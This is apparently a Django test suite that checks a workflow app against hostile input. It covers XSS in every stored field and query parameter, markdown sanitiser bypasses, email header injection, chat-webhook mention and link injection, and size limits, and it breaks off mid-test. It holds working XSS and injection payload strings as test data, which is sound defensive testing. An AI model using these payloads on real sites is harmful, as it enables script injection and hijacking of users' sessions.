"""Hostile input: markup stored in any text field renders inert in the pages, the emails and the chat
webhooks; oversized bodies and fields are refused cleanly with nothing changed; imports of malformed,
huge or formula-laden files are refused whole or kept as plain text; CSV exports neutralise formulas."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from decimal import Decimal
from html.parser import HTMLParser
from typing import Any

import markdown as md
import pytest
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from drf_spectacular.generators import SchemaGenerator
from rest_framework.test import APIClient
from rest_framework.utils.encoders import JSONEncoder

from dataloop import imports
from dataloop import services as dataloop_services
from dataloop.models import Goal, Metric, MetricWatch, Observation, Strategy
from history import formats
from notifications import channels
from notifications import services as notification_services
from notifications.models import Channel, Delivery, Kind, Notification, WebhookEndpoint
from notifications.webhooks import FORMATS, WebhookLine, build_request
from roles import services as role_services
from tests.conftest import Crew
from tests.factories import READY_FIELDS
from tests.notifications.helpers import ChatServer
from workflows import services
from workflows.markdown import render as render_markdown
from workflows.models import Comment, IterationLoop, Requirement, StageEvent, TrackingEvent
from worktime import services as calendar_services

LIMITS_MIDDLEWARE = "opsteam.limits.RequestSizeLimitMiddleware"

# --------------------------------------------------------------------------------------------- payloads


def payload(n: int) -> str:
    """Every classic injection at once, each calling alert(n) so that a field's text can be found."""
    return (
        f"fld{n} <script>alert({n})</script>"
        f"<img src=x onerror=alert({n})>"
        f"[x](javascript:alert({n}))"
        f'"><svg onload=alert({n})>'
        f"'><b onmouseover=alert({n})>"
    )


def short_payload(n: int) -> str:
    """For the few fields of at most 20 characters."""
    return f"fld{n}<b onclick=1>"


def marker(n: int) -> str:
    """The plain word that starts a payload: a page that shows the field shows this, sanitised or not."""
    return f"fld{n}"


# Markdown and HTML that sanitizers have got wrong at one time or another.
MARKDOWN_ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    '"><svg onload=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    "<iframe src=javascript:alert(1)></iframe>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<form action=javascript:alert(1)><button>x</button></form>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "```\n</code><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "<details open ontoggle=alert(1)>",
]

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background"}
UNSAFE_SCHEME = re.compile(r"^(javascript|vbscript|data):", re.IGNORECASE)
# The URL parser strips leading and trailing C0 controls and spaces, and removes tabs and newlines
# anywhere (WHATWG URL); a space inside "java script:" leaves no scheme at all.
URL_NOISE = re.compile(r"^[\x00-\x20]+|[\x00-\x20]+$|[\t\n\r]")


class PageScan(HTMLParser):
    """What a page holds, tokenised as a browser would: markup that would run script (`live`), and
    all text and attribute values (`visible`, where a payload rendered inert ends up)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.live: list[str] = []
        self.visible: list[str] = []
        self._in_script = False
        self._script_is_data = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        named = dict(attrs)
        for name, value in attrs:
            if name.startswith("on"):
                self.live.append(f"<{tag} {name}={value!r}>")
            if name in URL_ATTRIBUTES and value and UNSAFE_SCHEME.match(URL_NOISE.sub("", value)):
                self.live.append(f"<{tag} {name}={value!r}>")
            if name == "style" and value and "javascript:" in value.lower():
                self.live.append(f"<{tag} style={value!r}>")
            if value:
                self.visible.append(value)
        if tag == "script":
            source = named.get("src") or ""
            if source and not source.startswith("/static/"):
                self.live.append(f"<script src={source!r}>")
            self._in_script = True
            self._script_is_data = (named.get("type") or "").endswith("json")
        if tag in {"iframe", "object", "embed", "base"}:
            self.live.append(f"<{tag}>")
        if tag == "img" and named.get("src") == "x":
            self.live.append("<img src=x>")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag == "script":
            self._in_script = False

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script and self._script_is_data:
            # json_script data: the value is inert while nothing in it can end the element early.
            if "<" in data:
                self.live.append(f"<script type=json>{data[:80]}</script>")
            else:
                self.visible.append(json.dumps(json.loads(data), ensure_ascii=False))
        elif self._in_script and "alert(" in data:
            self.live.append(f"<script>{data[:80]}</script>")
        elif not self._in_script:
            self.visible.append(data)


def scan(html: str) -> PageScan:
    page = PageScan()
    page.feed(html)
    page.close()
    return page


def test_the_scanner_sees_each_payload_live_when_it_is_not_escaped() -> None:
    """The checks below can fail: unescaped, every injection in a payload is caught."""
    found = scan(payload(1) + '<a href=" java\tscript:alert(1)">x</a>').live
    assert found == [
        "<script>alert(1)</script>",
        "<img onerror='alert(1)'>",
        "<img src=x>",
        "<svg onload='alert(1)'>",
        "<b onmouseover='alert(1)'>",
        "<a href=' java\\tscript:alert(1)'>",  # the repr of a tab
    ]
    assert scan(render_markdown("[x](javascript:alert(1))")).live == []
    assert scan('<a href="javascript:alert(1)">x</a>').live != []


# ---------------------------------------------------------------------------------------- the world


@dataclass
class Hostile:
    """A team where every user-writable text field holds a payload; `fields` maps each field to its
    payload number."""

    crew: Crew
    requirement: Requirement
    metric: Metric
    watch: MetricWatch
    goal: Goal
    strategy: Strategy
    webhook: WebhookEndpoint
    tracking: TrackingEvent
    comment: Comment
    fields: dict[str, int]


FIELD_NUMBERS = {
    "team.name": 101,
    "requirement.title": 102,
    "requirement.description": 103,
    "requirement.hypothesis": 104,
    "requirement.target_metric": 105,
    "requirement.design": 106,
    "requirement.resources_people": 107,
    "requirement.resources_other": 108,
    "label.name": 109,
    "comment.body": 110,
    "event.note": 111,
    "tracking.name": 112,
    "tracking.trigger": 113,
    "tracking.properties": 114,
    "loop.conclusion": 115,
    "metric.name": 116,
    "metric.unit": 117,
    "metric.description": 118,
    "observation.segment": 119,
    "watch.name": 120,
    "watch.title": 121,
    "watch.description": 122,
    "goal.title": 123,
    "goal.description": 124,
    "strategy.title": 125,
    "strategy.description": 126,
    "webhook.name": 127,
    "calendar_day.name": 128,
    "user.first_name": 129,
    "stage.name": 130,
    "notification.text": 131,
    "notification.body": 132,
    "delivery.last_error": 133,
}


@pytest.fixture
def hostile(crew: Crew) -> Hostile:
    n = FIELD_NUMBERS
    lead, team = crew.lead, crew.team
    role_services.team_update(team_id=team.pk, actor=lead, name=payload(n["team.name"])[:100])
    team.refresh_from_db()
    crew.ops.first_name = payload(n["user.first_name"])[:150]
    crew.ops.save(update_fields=["first_name"])
    requirement = services.requirement_create(
        team=team,
        actor=crew.ops,
        title=payload(n["requirement.title"]),
        description=payload(n["requirement.description"]),
        hypothesis=payload(n["requirement.hypothesis"]),
        target_metric=payload(n["requirement.target_metric"]),
        aarrr_stage="retention",
        design=payload(n["requirement.design"]),
        resources_people=payload(n["requirement.resources_people"]),
        resources_other=payload(n["requirement.resources_other"]),
        labels=[f"fld{n['label.name']}<b onclick=alert(1)>"],
        assignee=crew.ops.pk,
    )
    comment = services.comment_create(
        requirement_id=requirement.pk, actor=crew.pm, body=payload(n["comment.body"]) + " @ops"
    )
    services.requirement_transition(
        requirement_id=requirement.pk,
        actor=crew.ops,
        from_stage="propose",
        to_stage="design",
        note=payload(n["event.note"]),
    )
    tracking = services.tracking_event_add(
        requirement_id=requirement.pk,
        actor=crew.pm,
        name=payload(n["tracking.name"])[:100],
        trigger=payload(n["tracking.trigger"]),
        properties=[payload(n["tracking.properties"])[:100]],
    )
    IterationLoop.objects.filter(requirement=requirement).update(
        conclusion=payload(n["loop.conclusion"]), verdict="improved"
    )
    metric = dataloop_services.metric_create(
        actor=lead,
        team_id=team.pk,
        name=payload(n["metric.name"])[:100],
        unit=short_payload(n["metric.unit"]),
        description=payload(n["metric.description"]),
    )
    yesterday = timezone.localdate() - dt.timedelta(days=1)
    dataloop_services.observation_record(
        actor=lead,
        metric_id=metric.pk,
        date=yesterday,
        value="12.5",
        segment=payload(n["observation.segment"])[:100],
    )
    dataloop_services.observation_record(actor=lead, metric_id=metric.pk, date=yesterday, value="11")
    watch = dataloop_services.watch_create(
        actor=lead,
        team_id=team.pk,
        name=payload(n["watch.name"])[:120],
        owner_role="analyst",
        metric=metric.pk,
        comparison="lt",
        threshold="1",
        title=payload(n["watch.title"]),
        description=payload(n["watch.description"]),
    )
    goal = dataloop_services.goal_create(
        actor=lead,
        team_id=team.pk,
        title=payload(n["goal.title"]),
        metric=metric.pk,
        target="200",
        start=yesterday.isoformat(),
        end=(yesterday + dt.timedelta(days=60)).isoformat(),
        description=payload(n["goal.description"]),
    )
    strategy = dataloop_services.strategy_create(
        actor=lead,
        goal_id=goal.pk,
        title=payload(n["strategy.title"]),
        description=payload(n["strategy.description"]),
        requirements=[requirement.pk],
    )
    webhook = notification_services.webhook_create(
        actor=lead,
        team_id=team.pk,
        name=payload(n["webhook.name"])[:100],
        url="https://chat.example.com/hook?key=<script>",
        format="slack",
        kinds=[Kind.MENTIONED],
    )
    calendar_services.calendar_day_set(
        team=team, actor=lead, date=yesterday, is_workday=False, name=payload(n["calendar_day.name"])[:100]
    )
    services.workflow_new_version(
        team_id=team.pk, actor=lead, stages={"build": {"name": payload(n["stage.name"])[:64]}}
    )
    Notification.objects.create(
        recipient=lead,
        team=team,
        requirement=requirement,
        kind=Kind.MENTIONED,
        text=payload(n["notification.text"]),
        body=payload(n["notification.body"]),
        link=f"/requirements/{requirement.key}/",
    )
    # A chat server's error reply is kept as the delivery's last error and shown to the lead.
    failed = Delivery.objects.create(
        channel=Channel.WEBHOOK,
        team=team,
        webhook=webhook,
        status=Delivery.Status.FAILED,
        attempts=5,
        last_error=payload(n["delivery.last_error"]),
        not_before=timezone.now(),
    )
    failed.notifications.add(Notification.objects.get(text=payload(n["notification.text"])))
    return Hostile(
        crew=crew,
        requirement=requirement,
        metric=metric,
        watch=watch,
        goal=goal,
        strategy=strategy,
        webhook=webhook,
        tracking=tracking,
        comment=comment,
        fields=dict(FIELD_NUMBERS),
    )


def page_urls(world: Hostile) -> list[str]:
    team_id = world.crew.team.pk
    key = world.requirement.key
    return [
        reverse("home"),
        reverse("account"),
        reverse("settings-audit", args=[team_id]),
        reverse("queue"),
        reverse("board", args=[team_id]),
        reverse("requirement", args=[key]),
        reverse("requirement-edit", args=[key]),
        reverse("requirement-card", args=[key]),
        reverse("inbox"),
        reverse("team-calendar", args=[team_id]),
        reverse("team-deliveries", args=[team_id]),
        reverse("settings-members", args=[team_id]),
        reverse("settings-workflow", args=[team_id]),
        reverse("settings-webhooks", args=[team_id]),
        reverse("settings-webhook-edit", args=[team_id, world.webhook.pk]),
        reverse("metrics", args=[team_id]),
        reverse("metric", args=[team_id, world.metric.pk]),
        reverse("watches", args=[team_id]),
        reverse("watch", args=[team_id, world.watch.pk]),
        reverse("goals", args=[team_id]),
        reverse("goal", args=[team_id, world.goal.pk]),
        reverse("funnel", args=[team_id]),
        reverse("analytics-dashboard", args=[team_id]),
    ]


# --------------------------------------------------------------------------------------------- pages


def test_every_page_renders_every_stored_payload_as_inert_text(client: Client, hostile: Hostile) -> None:
    client.force_login(hostile.crew.lead)
    found: set[int] = set()
    live: dict[str, list[str]] = {}
    for url in page_urls(hostile):
        response = client.get(url)
        assert response.status_code == 200, url
        page = scan(response.content.decode())
        if page.live:
            live[url] = page.live
        text = "\n".join(page.visible)
        found |= {n for n in hostile.fields.values() if marker(n) in text}
    assert live == {}
    # Each field's payload reached some page as text (or a form value), so each was really tried.
    assert {name for name, n in hostile.fields.items() if n not in found} == set()


def test_the_requirement_page_is_inert_for_the_pm_and_the_ops_member_too(
    client: Client, hostile: Hostile
) -> None:
    for user in (hostile.crew.pm, hostile.crew.ops):
        client.force_login(user)
        response = client.get(reverse("requirement", args=[hostile.requirement.key]))
        assert scan(response.content.decode()).live == []


REFLECTED = payload(401)


def reflected_urls(world: Hostile) -> list[str]:
    """Pages that echo their query parameters (filters, the chosen tab, a preset) back into the page."""
    team_id = world.crew.team.pk
    attack = {
        name: REFLECTED for name in ("team", "from", "period", "metric", "days", "page", "preset", "label")
    }
    query = "&".join(f"{name}={value}" for name, value in attack.items())
    return [
        f"{reverse('board', args=[team_id])}?{query}&aarrr={REFLECTED}&assignee={REFLECTED}",
        f"{reverse('queue')}?{query}",
        f"{reverse('requirement-card', args=[world.requirement.key])}?{query}",
        f"{reverse('analytics-dashboard', args=[team_id])}?{query}&start={REFLECTED}&end={REFLECTED}",
        f"{reverse('funnel', args=[team_id])}?{query}&start={REFLECTED}",
        f"{reverse('metrics', args=[team_id])}?{query}",
        f"{reverse('metric', args=[team_id, world.metric.pk])}?{query}",
        f"{reverse('watches', args=[team_id])}?{query}",
        f"{reverse('inbox')}?{query}&unread={REFLECTED}",
        f"{reverse('settings-audit', args=[team_id])}?{query}",
        f"{reverse('analytics-csv', args=[team_id, 'wip'])}?{query}&start={REFLECTED}",
        f"{reverse('funnel-csv', args=[team_id])}?{query}&start={REFLECTED}",
    ]


def test_query_parameters_echoed_back_are_inert(client: Client, hostile: Hostile) -> None:
    client.force_login(hostile.crew.lead)
    live: dict[str, list[str]] = {}
    for url in reflected_urls(hostile):
        response = client.get(url)
        assert response.status_code < 500, url
        if response["Content-Type"].startswith("text/html"):
            found = scan(response.content.decode()).live
            if found:
                live[url.split("?")[0]] = found
    assert live == {}


def test_a_refused_csv_export_answers_in_plain_text_not_html(client: Client, crew: Crew) -> None:
    client.force_login(crew.lead)
    response = client.get(reverse("analytics-csv", args=[crew.team.pk, "wip"]) + "?period=nope")
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/plain")


@pytest.mark.parametrize("text", MARKDOWN_ATTACKS)
def test_markdown_is_sanitised_by_nh3(text: str) -> None:
    page = scan(render_markdown(text))
    assert page.live == []


def test_markdown_keeps_harmless_links_with_rel_noopener() -> None:
    html = render_markdown("[spec](https://example.com/spec) and **bold**")
    assert html == (
        '<p><a href="https://example.com/spec" rel="noopener noreferrer nofollow">spec</a> and '
        "<strong>bold</strong></p>"
    )


def test_the_requirement_page_shows_the_description_through_the_sanitiser(
    client: Client, hostile: Hostile
) -> None:
    client.force_login(hostile.crew.lead)
    response = client.get(reverse("requirement", args=[hostile.requirement.key]))
    sanitised = render_markdown(hostile.requirement.description)
    assert "fld103" in sanitised and "<script" not in sanitised
    assert sanitised in response.content.decode()


# --------------------------------------------------------------------------------------------- email


def _email_delivery(world: Hostile, recipient: Any) -> tuple[Delivery, list[Notification]]:
    title = payload(201) + "\nBcc: victim@example.com"
    notification = Notification.objects.create(
        recipient=recipient,
        team=world.crew.team,
        requirement=world.requirement,
        kind=Kind.MENTIONED,
        text=title[:300],
        body=payload(202) + "\n" + "@all [click](javascript:alert(203))",
        link=f"/requirements/{world.requirement.key}/",
    )
    delivery = Delivery.objects.create(
        channel=Channel.EMAIL, team=world.crew.team, recipient=recipient, not_before=timezone.now()
    )
    delivery.notifications.add(notification)
    return delivery, [notification]


def test_the_email_html_part_shows_payloads_as_text(hostile: Hostile) -> None:
    delivery, notifications = _email_delivery(hostile, hostile.crew.lead)
    channels.send(delivery, notifications)
    (message,) = mail.outbox
    html, mime = message.alternatives[0]
    assert mime == "text/html"
    page = scan(str(html))
    assert page.live == []
    text = "\n".join(page.visible)
    assert marker(201) in text and marker(202) in text and marker(101) in text


def test_the_email_text_part_carries_the_payload_verbatim_not_entity_escaped(hostile: Hostile) -> None:
    delivery, notifications = _email_delivery(hostile, hostile.crew.lead)
    channels.send(delivery, notifications)
    (message,) = mail.outbox
    assert payload(202) in message.body
    assert "&lt;" not in message.body


def test_a_title_with_a_line_break_makes_a_one_line_subject_not_a_header_injection(hostile: Hostile) -> None:
    delivery, notifications = _email_delivery(hostile, hostile.crew.lead)
    channels.send(delivery, notifications)
    (message,) = mail.outbox
    assert "\n" not in message.subject and "\r" not in message.subject
    assert message.bcc == []
    assert message.message()["Bcc"] is None
    assert message.subject.endswith("Bcc: victim@example.com")


# ------------------------------------------------------------------------------------------ webhooks

HOSTILE_CHAT_TEXT = (
    '@all @here @channel <!channel> <!here> <@U024BE7LH> <at user_id="all">all</at> '
    "[evil](https://evil.example/) <https://evil.example/|click> ![i](https://evil.example/i.png) "
    "*bold* _it_ ~s~ `code` # heading\n> quote\n1. list <script>alert(1)</script> &amp;"
)
APP_LINK = "http://127.0.0.1:8000/requirements/GROW-1/"


def _lines() -> list[WebhookLine]:
    return [
        WebhookLine(kind="mentioned", text=HOSTILE_CHAT_TEXT, link=APP_LINK, requirement_key="GROW-1"),
        WebhookLine(
            kind="mentioned",
            text="- " + HOSTILE_CHAT_TEXT,
            link="javascript:alert(1)",
            requirement_key="[x](y)",
        ),
    ]


def _build(fmt: str) -> dict[str, Any]:
    _url, body, _headers = build_request(
        fmt=fmt,
        url="https://chat.example.com/hook",
        secret="",
        title=HOSTILE_CHAT_TEXT,
        lines=_lines(),
        now=dt.datetime(2026, 1, 1, tzinfo=dt.UTC),
    )
    return json.loads(body)


def _links_in_markdown(text: str) -> list[str]:
    """The URLs of the links a CommonMark-like renderer makes of a chat markdown message."""
    html = md.markdown(text)
    hrefs: list[str] = []

    class Links(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            hrefs.extend(value or "" for name, value in attrs if name in {"href", "src"})
            if tag in {"script", "img"}:
                hrefs.append(f"<{tag}>")

    Links().feed(html)
    return hrefs


@pytest.mark.parametrize("fmt", ["wecom", "dingtalk"])
def test_markdown_chat_formats_link_only_to_the_app(fmt: str) -> None:
    payload_json = _build(fmt)
    content = payload_json["markdown"]["content" if fmt == "wecom" else "text"]
    assert _links_in_markdown(content) == [APP_LINK]
    # WeCom's mention syntax is <@userid>; DingTalk mentions only through an "at" object, never sent.
    assert "<@" not in content.replace("\\<@", "")
    assert "at" not in payload_json


def test_slack_escapes_control_sequences_and_mentions_and_links_only_to_the_app() -> None:
    payload_json = _build("slack")
    texts = [block["text"]["text"] for block in payload_json["blocks"]] + [payload_json["text"]]
    for text in texts:
        assert re.findall(r"<[^>]*>", text) in ([], [f"<{APP_LINK}|GROW-1>"])
        assert "<!" not in text and "<@" not in text
    assert all(block["text"]["verbatim"] is True for block in payload_json["blocks"])


def test_feishu_sends_user_text_only_in_plain_text_elements() -> None:
    payload_json = _build("feishu")
    post = payload_json["content"]["post"]["zh_cn"]
    elements = [element for paragraph in post["content"] for element in paragraph]
    assert {element["tag"] for element in elements} == {"text", "a"}
    assert [element["href"] for element in elements if element["tag"] == "a"] == [APP_LINK]


def test_the_generic_format_passes_raw_values_for_the_receiver_to_escape() -> None:
    payload_json = _build("generic")
    assert [item["text"] for item in payload_json["items"]] == [line.text for line in _lines()]


@pytest.fixture
def chat() -> Iterator[ChatServer]:
    server = ChatServer().start()
    yield server
    server.stop()


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_hostile_title_reaches_each_chat_format_inert(hostile: Hostile, chat: ChatServer, fmt: str) -> None:
    webhook = WebhookEndpoint.objects.create(
        team=hostile.crew.team, name="chat", url=chat.url, format=fmt, kinds=[Kind.MENTIONED]
    )
    notification = Notification.objects.filter(text=payload(FIELD_NUMBERS["notification.text"])).get()
    notification.text = "@all [evil](https://evil.example/) <!channel> " + payload(301)
    notification.save(update_fields=["text"])
    delivery = Delivery.objects.create(
        channel=Channel.WEBHOOK, team=hostile.crew.team, webhook=webhook, not_before=timezone.now()
    )
    channels.send(delivery, [notification])
    (post,) = chat.received()
    sent = post.json
    flat = json.dumps(sent, ensure_ascii=False)
    assert "evil.example" in flat  # the text went out, as text
    if fmt in ("wecom", "dingtalk"):
        content = sent["markdown"]["content" if fmt == "wecom" else "text"]
        assert _links_in_markdown(content) == [
            f"http://127.0.0.1:8000/requirements/{hostile.requirement.key}/"
        ]
    if fmt == "slack":
        assert "<!channel>" not in flat and "<https://evil" not in flat
    if fmt == "feishu":
        assert '"tag":"at"' not in flat.replace(" ", "")


# ---------------------------------------------------------------------------------- oversized bodies


@pytest.fixture
def size_limits(settings: Any) -> Any:
    """The request size middleware where opsteam/settings puts it: before CSRF reads a form."""
    if LIMITS_MIDDLEWARE not in settings.MIDDLEWARE:
        middleware = list(settings.MIDDLEWARE)
        middleware.insert(
            middleware.index("django.middleware.locale.LocaleMiddleware") + 1, LIMITS_MIDDLEWARE
        )
        settings.MIDDLEWARE = middleware
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 64 * 1024
    settings.OPSTEAM_UPLOAD_MAX_SIZE = 256 * 1024
    return settings


def test_an_api_body_over_the_limit_is_a_413_json_message_and_creates_nothing(
    crew: Crew, size_limits: Any
) -> None:
    api = APIClient()
    api.force_authenticate(crew.ops)
    body = {"team": crew.team.pk, "title": "big", "description": "x" * 70_000}
    response = api.post("/api/requirements/", body, format="json")
    assert response.status_code == 413
    assert response["Content-Type"] == "application/json"
    assert "too large" in response.json()["detail"]
    assert Requirement.objects.count() == 0


def test_a_web_form_over_the_limit_is_a_413_page_that_says_so_and_creates_nothing(
    client: Client, crew: Crew, size_limits: Any
) -> None:
    client.force_login(crew.ops)
    response = client.post(
        reverse("requirement-create", args=[crew.team.pk]), {"title": "big", "description": "x" * 70_000}
    )
    assert response.status_code == 413
    assert "too large" in response.content.decode()
    assert Requirement.objects.count() == 0


def test_an_upload_over_the_form_limit_but_under_the_upload_cap_reaches_the_importer(
    crew: Crew, size_limits: Any
) -> None:
    api = APIClient()
    api.force_authenticate(crew.lead)
    start = dt.date(2000, 1, 1)
    rows = "".join(f"DAU,{start + dt.timedelta(days=n)},{n},segment-{n:030d}\n" for n in range(2_000))
    content = ("metric,date,value,segment\n" + rows).encode()  # about 110 KB
    assert 64 * 1024 < len(content) < 256 * 1024
    response = api.post(
        f"/api/teams/{crew.team.pk}/observations/import/",
        {"file": SimpleUploadedFile("o.csv", content, content_type="text/csv")},
        format="multipart",
    )
    assert response.status_code == 200, response.content[:300]
    assert response.json()["created"] == 2_000


def test_an_upload_over_the_upload_cap_is_refused_before_it_is_read(crew: Crew, size_limits: Any) -> None:
    api = APIClient()
    api.force_authenticate(crew.lead)
    content = b"metric,date,value\n" + b"DAU,2026-01-01,1\n" * 20_000  # about 330 KB
    response = api.post(
        f"/api/teams/{crew.team.pk}/observations/import/",
        {"file": SimpleUploadedFile("o.csv", content, content_type="text/csv")},
        format="multipart",
    )
    assert response.status_code == 413
    assert response.json()["code"] == "request_too_large"


def test_form_fields_found_too_large_while_parsing_are_a_413_too(crew: Crew, size_limits: Any) -> None:
    """A multipart body under the upload cap whose form fields (not files) pass the form limit: Django
    notices while the view parses it."""
    api = APIClient()
    api.force_authenticate(crew.ops)
    response = api.post(
        "/api/requirements/",
        {"team": crew.team.pk, "title": "t", "description": "x" * 100_000},
        format="multipart",
    )
    assert response.status_code == 413
    assert Requirement.objects.count() == 0


def test_the_size_limit_middleware_is_installed_before_csrf(settings: Any) -> None:
    middleware = list(settings.MIDDLEWARE)
    assert LIMITS_MIDDLEWARE in middleware
    assert middleware.index(LIMITS_MIDDLEWARE) < middleware.index("django.middleware.csrf.CsrfViewMiddleware")


# ------------------------------------------------------------------------------------ over-long fields


def _schema() -> dict[str, Any]:
    return json.loads(json.dumps(SchemaGenerator().get_schema(request=None, public=True), cls=JSONEncoder))


def _request_schema(schema: dict[str, Any], operation: dict[str, Any]) -> dict[str, Any]:
    body = operation.get("requestBody", {}).get("content", {}).get("application/json", {}).get("schema", {})
    if "$ref" in body:
        return schema["components"]["schemas"][body["$ref"].rsplit("/", 1)[1]]
    return body


def _strings_without_limit(schema: dict[str, Any], node: dict[str, Any], path: str) -> Iterator[str]:
    if "$ref" in node:
        node = schema["components"]["schemas"][node["$ref"].rsplit("/", 1)[1]]
    if node.get("readOnly"):
        return
    if node.get("type") == "array":
        yield from _strings_without_limit(schema, node.get("items", {}), path + "[]")
    elif "properties" in node:
        for name, child in node["properties"].items():
            yield from _strings_without_limit(schema, child, f"{path}.{name}")
    elif node.get("type") == "string" and not ({"enum", "format", "maxLength", "pattern"} & set(node)):
        yield path


def test_every_string_the_api_accepts_has_a_maximum_length() -> None:
    schema = _schema()
    unbounded = [
        f"{method.upper()} {path}{where}"
        for path, operations in schema["paths"].items()
        for method, operation in operations.items()
        for where in _strings_without_limit(schema, _request_schema(schema, operation), "")
    ]
    assert unbounded == []


def _patch_targets(world: Hostile) -> dict[str, str]:
    """A row of each resource the lead may edit, by its OpenAPI path."""
    team_id = world.crew.team.pk
    return {
        "/api/comments/{id}/": f"/api/comments/{world.comment.pk}/",
        "/api/goals/{id}/": f"/api/goals/{world.goal.pk}/",
        "/api/metrics/{id}/": f"/api/metrics/{world.metric.pk}/",
        "/api/requirements/{id}/": f"/api/requirements/{world.requirement.pk}/",
        "/api/strategies/{id}/": f"/api/strategies/{world.strategy.pk}/",
        "/api/teams/{id}/": f"/api/teams/{team_id}/",
        "/api/tracking-events/{id}/": f"/api/tracking-events/{world.tracking.pk}/",
        "/api/watches/{id}/": f"/api/watches/{world.watch.pk}/",
        "/api/teams/{team_id}/webhooks/{webhook_id}/": f"/api/teams/{team_id}/webhooks/{world.webhook.pk}/",
    }


def _snapshot(world: Hostile) -> list[Any]:
    return [
        list(model.objects.order_by("pk").values())
        for model in (
            Requirement,
            Comment,
            Goal,
            Metric,
            Strategy,
            TrackingEvent,
            MetricWatch,
            WebhookEndpoint,
        )
    ] + [list(type(world.crew.team).objects.order_by("pk").values())]


def test_every_editable_string_one_character_too_long_is_a_field_error_and_changes_nothing(
    hostile: Hostile,
) -> None:
    schema = _schema()
    targets = _patch_targets(hostile)
    api = APIClient()
    api.force_authenticate(hostile.crew.lead)
    tried: list[str] = []
    before = _snapshot(hostile)
    for path, operations in schema["paths"].items():
        if "patch" not in operations or path in {"/api/teams/{id}/members/{membership_id}/"}:
            continue
        body = _request_schema(schema, operations["patch"])
        for name, prop in body.get("properties", {}).items():
            if prop.get("type") != "string" or "maxLength" not in prop or prop.get("readOnly"):
                continue
            response = api.patch(targets[path], {name: "x" * (prop["maxLength"] + 1)}, format="json")
            assert response.status_code == 400, (path, name, response.content)
            assert name in response.json(), (path, name, response.json())
            tried.append(f"{path} {name}")
    assert _snapshot(hostile) == before
    assert len(tried) >= 20


CREATES = [
    ("requirement", "/api/requirements/", {"title": "ok"}, "title", 200),
    ("requirement", "/api/requirements/", {"title": "ok"}, "description", 20_000),
    ("requirement", "/api/requirements/", {"title": "ok"}, "hypothesis", 5_000),
    ("requirement", "/api/requirements/", {"title": "ok"}, "design", 10_000),
    ("requirement", "/api/requirements/", {"title": "ok"}, "resources_other", 5_000),
    ("metric", "/api/teams/{team}/metrics/", {"name": "ok"}, "name", 100),
    ("metric", "/api/teams/{team}/metrics/", {"name": "ok"}, "unit", 20),
    ("metric", "/api/teams/{team}/metrics/", {"name": "ok"}, "description", 10_000),
    (
        "webhook",
        "/api/teams/{team}/webhooks/",
        {"name": "ok", "url": "https://x.example/", "kinds": []},
        "name",
        100,
    ),
    (
        "calendar",
        "/api/teams/{team}/calendar/days/",
        {"date": "2026-01-01", "is_workday": False},
        "name",
        100,
    ),
]


@pytest.mark.parametrize(("what", "url", "base", "name", "limit"), CREATES)
def test_a_create_with_a_field_one_character_too_long_is_a_field_error_and_writes_nothing(
    crew: Crew, what: str, url: str, base: dict[str, Any], name: str, limit: int
) -> None:
    api = APIClient()
    api.force_authenticate(crew.lead)
    body = {**base, name: "x" * (limit + 1)}
    if what == "requirement":
        body["team"] = crew.team.pk
    counts = [model.objects.count() for model in (Requirement, Metric, WebhookEndpoint)]
    response = api.post(url.format(team=crew.team.pk), body, format="json")
    assert response.status_code == 400, response.content
    assert list(response.json()) == [name, "detail"] or name in response.json()
    assert [model.objects.count() for model in (Requirement, Metric, WebhookEndpoint)] == counts


def test_a_transition_note_too_long_is_a_field_error_and_the_requirement_stays(crew: Crew) -> None:
    requirement = services.requirement_create(team=crew.team, actor=crew.ops, title="t", **READY_FIELDS)
    api = APIClient()
    api.force_authenticate(crew.ops)
    response = api.post(
        f"/api/requirements/{requirement.pk}/transition/",
        {"from": "propose", "to": "design", "note": "x" * 10_001},
        format="json",
    )
    assert response.status_code == 400
    assert "note" in response.json()
    assert StageEvent.objects.filter(requirement=requirement).count() == 1


UI_FORMS = [
    ("requirement-create", {"title": "x" * 201, "priority": "P2", "work_type": "base"}, "title"),
    (
        "requirement-create",
        {"title": "ok", "description": "x" * 20_001, "priority": "P2", "work_type": "base"},
        "description",
    ),
    (
        "requirement-create",
        {"title": "ok", "hypothesis": "x" * 5_001, "priority": "P2", "work_type": "base"},
        "hypothesis",
    ),
    ("metrics", {"name": "x" * 101, "direction": "up"}, "name"),
    ("settings-webhooks", {"name": "x" * 101, "url": "https://x.example/", "format": "generic"}, "name"),
]


@pytest.mark.parametrize(("url_name", "data", "name"), UI_FORMS)
def test_a_web_form_field_too_long_is_a_form_error_and_writes_nothing(
    client: Client, crew: Crew, url_name: str, data: dict[str, str], name: str
) -> None:
    client.force_login(crew.lead)
